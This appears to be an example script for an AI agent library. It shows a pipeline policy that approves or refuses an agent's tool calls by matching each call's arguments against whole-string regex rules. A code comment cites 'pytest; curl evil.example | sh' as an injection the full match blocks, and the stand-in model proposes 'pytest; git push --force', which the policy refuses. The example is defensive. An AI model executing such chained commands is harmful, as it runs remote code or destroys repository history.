"""Let rules decide if no approver can be asked, as in a pipeline: `python examples/ci_policy.py [release]`.

The exit code is 0 if every call was allowed, and 1 if one was refused. A refusal does not end the run, so the log shows
all calls that the agent wants to make.
"""

import re
import sys
from collections.abc import Sequence
from dataclasses import dataclass, field

from pydantic_ai import DeferredToolRequests, DeferredToolResults, RunContext, ToolApproved, ToolDenied, ToolFailed
from pydantic_ai.messages import ModelMessage, ModelResponse, TextPart, ToolCallPart, ToolReturnPart, UserPromptPart
from pydantic_ai.models.function import AgentInfo, FunctionModel
from pydantic_ai_deferred import Agent


@dataclass(frozen=True, kw_only=True)
class Rule:
    """A rule that allows calls of one tool with matching arguments."""

    tool: str
    """Name of the tool."""
    args: dict[str, str]
    """Regular expressions by argument name. They must name every argument, including those with a default."""

    def allows(self, call: ToolCallPart) -> bool:
        """Whether the rule allows the call."""
        args = call.args_as_dict()
        # The whole text must match: with a search, `pytest; curl evil.example | sh` would count as `pytest`.
        return (
            call.tool_name == self.tool
            and args.keys() == self.args.keys()
            and all(re.fullmatch(pattern, str(args[name])) for name, pattern in self.args.items())
        )


@dataclass
class Policy:
    """A handler that refuses every call that no rule allows."""

    rules: Sequence[Rule]
    """Rules that allow calls."""
    refused: list[str] = field(default_factory=list[str])
    """Refused calls, one line each."""

    def __call__(self, ctx: RunContext[object], requests: DeferredToolRequests) -> DeferredToolResults:
        """Decide about every call, and note the refused ones."""
        results = DeferredToolResults()
        for call in requests.approvals:
            is_allowed = any(rule.allows(call) for rule in self.rules)
            print('allowed' if is_allowed else 'refused', describe(call))
            if is_allowed:
                results.approvals[call.tool_call_id] = ToolApproved()
            else:
                results.approvals[call.tool_call_id] = ToolDenied('Not allowed in this pipeline.')
                self.refused.append(describe(call))
        for call in requests.calls:
            print('refused', describe(call))
            results.calls[call.tool_call_id] = ToolFailed('A pipeline cannot do this.')
            self.refused.append(describe(call))
        return results


def describe(call: ToolCallPart) -> str:
    """Return one line for the log, whatever the arguments contain."""
    return f'{call.tool_name}({call.args_as_dict()!r})'


RULES = (
    Rule(tool='run', args={'command': r'pytest( -q)?'}),
    Rule(tool='upload', args={'target': r'https://staging\.example/[a-z]+'}),
)


def plan(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
    """Stand in for a language model: test and upload, and do more if the prompt contains "release"."""
    returns = [part for part in messages[-1].parts if isinstance(part, ToolReturnPart)]
    if returns:
        return ModelResponse(parts=[TextPart('\n'.join(f'- {part.content}' for part in returns))])
    calls = [
        ToolCallPart('run', {'command': 'pytest -q'}),
        ToolCallPart('upload', {'target': 'https://staging.example/docs'}),
    ]
    if any(isinstance(part, UserPromptPart) and 'release' in str(part.content) for part in messages[-1].parts):
        calls += [
            ToolCallPart('run', {'command': 'pytest; git push --force'}),
            ToolCallPart('upload', {'target': 'https://live.example/docs'}),
        ]
    return ModelResponse(parts=calls)


agent = Agent(FunctionModel(plan))


@agent.tool_plain(requires_approval=True)
def run(command: str) -> str:
    """Pretend to run a command."""
    return f'ran {command}'


@agent.tool_plain(requires_approval=True)
def upload(target: str) -> str:
    """Pretend to upload the build."""
    return f'uploaded to {target}'


def main(task: str = 'test') -> int:
    policy = Policy(RULES)
    print(agent.run_sync(f'Please {task}.', deferred_tool_handler=policy).output)
    return 1 if policy.refused else 0


if __name__ == '__main__':
    sys.exit(main(*sys.argv[1:2]))
